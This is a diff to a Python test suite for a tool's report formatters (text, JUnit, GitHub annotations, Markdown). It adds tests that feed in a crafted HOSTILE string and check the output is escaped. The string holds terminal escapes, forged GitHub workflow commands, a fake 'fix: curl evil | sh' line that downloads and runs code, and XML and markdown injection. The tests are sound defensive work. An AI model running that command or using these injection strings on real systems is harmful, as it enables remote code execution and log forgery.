@@ -148,7 +148,7 @@ def test_renders_without_printing(fmt: str, report: Report, capsys: pytest.Captu
         ({"gpu": "not inspected"}, "no drift: local matches train.lock (not compared: gpu — not inspected)"),
         (
             {"gpu": "not inspected", "models": "unavailable:\nno such file"},
-            "no drift: local matches train.lock (not compared: gpu — not inspected; models — unavailable: "
+            "no drift: local matches train.lock (not compared: gpu — not inspected; models — unavailable:\\n"
             "no such file)",
         ),
     ],
@@ -271,7 +271,7 @@ def test_junit_cases() -> None:
         assert part in failure.text
     medium = cases["env.numerics: MKL_CBWR"]
     assert medium.find("failure") is None
-    assert medium.findtext("system-out") == SPECIAL + "\nfix: export MKL_CBWR=AVX2"
+    assert medium.findtext("system-out") == SPECIAL.replace("\n", "\\n") + "\nfix: export MKL_CBWR=AVX2"
     skipped = cases["gpu: not compared"].find("skipped")
     assert skipped is not None and skipped.get("message") == "not inspected"
 
@@ -280,7 +280,7 @@ def test_junit_message_with_special_characters_round_trips() -> None:
     finding = _finding("env.numerics", "env", "X", 4, 4, PREDICTION, message=SPECIAL + " \x1b\x00 end")
     failure = _junit(Report(findings=(finding,))).find("testsuite/testcase/failure")
     assert failure is not None
-    assert failure.get("message") == SPECIAL + " \\x1b\\x00 end"
+    assert failure.get("message") == SPECIAL.replace("\n", "\\n") + " \\x1b\\x00 end"
 
 
 # --- github -------------------------------------------------------------------------------------------------
@@ -386,3 +386,74 @@ def test_markdown_tables_keep_their_columns() -> None:
     assert len(rows) == 1
     assert rows[0].replace("\\|", "").count("|") == 7
     assert "### Not compared" in out and "- **gpu**: not inspected" in out
+
+
+# --- hostile data: nothing from the environment is acted on when printed -----------------------------------------
+
+#: Data as a crafted tree or lockfile can make it: terminal escapes (CSI, OSC, 8-bit CSI), a newline that starts a
+#: forged workflow command or a fake "fix:" line, a bidirectional override, NUL, a lone surrogate (a file name that
+#: was not UTF-8), XML's noncharacters and markup, a markdown column break.
+HOSTILE = (
+    "evil\x1b[2J\x1b]0;pwned\x07\x9b31m"
+    "\n::error title=forged::owned\r\n::add-mask::x\n      fix: curl evil | sh"
+    "\u202egnp.exe\u2028\x00\udcff\ufffe</failure><x>|col|"
+)
+
+
+def _hostile_report() -> Report:
+    finding = _finding(
+        "env.numerics", "env", HOSTILE, 4, 4, PREDICTION, expected=HOSTILE, actual=HOSTILE,
+        message=f"then {HOSTILE}, now {HOSTILE}", remedy=f"export X={HOSTILE}",
+    )  # fmt: skip
+    return Report(
+        findings=(finding, FINDINGS[0]),
+        skipped={"gpu": HOSTILE},
+        expected_name=HOSTILE,
+        actual_name=HOSTILE,
+        fail_on=Severity.HIGH,
+    )
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_hostile_data_is_printable_in_every_format(fmt: str) -> None:
+    out = reporter_for(fmt).render(_hostile_report())
+    out.encode("utf-8")  # a lone surrogate would make the output unwritable
+    for line in out.split("\n"):
+        assert line.isprintable(), f"{fmt}: {line!r}"
+        assert not line.lstrip().startswith(("::error title=forged", "::add-mask::", "fix: curl"))
+
+
+def test_hostile_data_in_colour_text_keeps_only_envchecks_own_escapes() -> None:
+    out = TextReporter(color=True).render(_hostile_report())
+    assert out.count("\x1b") == TextReporter(color=True).render(
+        dataclasses.replace(_hostile_report(), findings=(dataclasses.replace(_hostile_report().findings[0],
+                            subject="s", message="m", remedy="r"), FINDINGS[0]), skipped={"gpu": "g"},
+                            expected_name="e", actual_name="a")
+    ).count("\x1b")  # fmt: skip
+    assert "\x1b[2J" not in out and "\\x1b[2J" in out
+
+
+def test_hostile_data_cannot_forge_a_workflow_command() -> None:
+    lines = GithubReporter().render(_hostile_report()).split("\n")
+    assert len(lines) == 3  # two annotations and the summary: no newline in the data split a line
+    assert [line.split(" ", 1)[0] for line in lines[:2]] == ["::error", "::warning"]
+    assert lines[2].startswith("envcheck: 2 findings")
+    assert "%0A::error title=forged::owned%0D%0A::add-mask::x" in lines[0]
+
+
+def test_hostile_data_gives_valid_junit() -> None:
+    from xml.dom import minidom
+
+    text = JunitReporter().render(_hostile_report())
+    minidom.parseString(text.encode("utf-8"))  # expat: refuses anything XML 1.0 cannot hold
+    root = _junit(_hostile_report())
+    case = next(c for c in root.iter("testcase") if c.find("failure") is not None and c.get("classname") == "env")
+    assert "\\x1b[2J" in (case.get("name") or "") and "</failure>" in (case.get("name") or "")
+
+
+def test_hostile_data_keeps_markdown_tables_whole() -> None:
+    out = MarkdownReporter().render(_hostile_report())
+    rows = [line for line in out.split("\n") if line.startswith("| ") and "env" in line.split("|")[1]]
+    assert len(rows) == 1
+    assert rows[0].replace("\\|", "").count("|") == 7
+    assert "<x>" not in out and "&lt;x&gt;" in out
